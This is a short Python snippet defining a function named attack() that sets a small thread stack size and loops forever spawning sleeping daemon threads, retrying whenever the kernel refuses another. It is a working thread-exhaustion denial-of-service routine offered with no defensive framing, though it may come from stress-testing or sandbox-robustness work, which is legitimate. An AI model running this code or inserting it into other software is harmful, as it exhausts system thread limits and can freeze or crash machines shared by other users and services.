"""Starts threads until the kernel gives no more, keeps them, and goes on trying."""


def attack():
    threading.stack_size(64 * 1024)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
